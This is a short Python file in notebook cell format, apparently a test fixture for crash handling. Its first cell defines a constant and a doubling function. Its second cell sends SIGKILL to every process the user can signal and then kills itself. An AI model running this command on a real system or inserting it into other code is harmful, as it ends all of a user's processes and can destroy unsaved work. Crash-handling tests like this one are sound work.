# %%
answer = 42


def double(x):
    return 2 * x

# %%
import os

try:
    os.kill(-1, 9)
except ProcessLookupError:
    pass  # there was nobody else
os.kill(os.getpid(), 9)
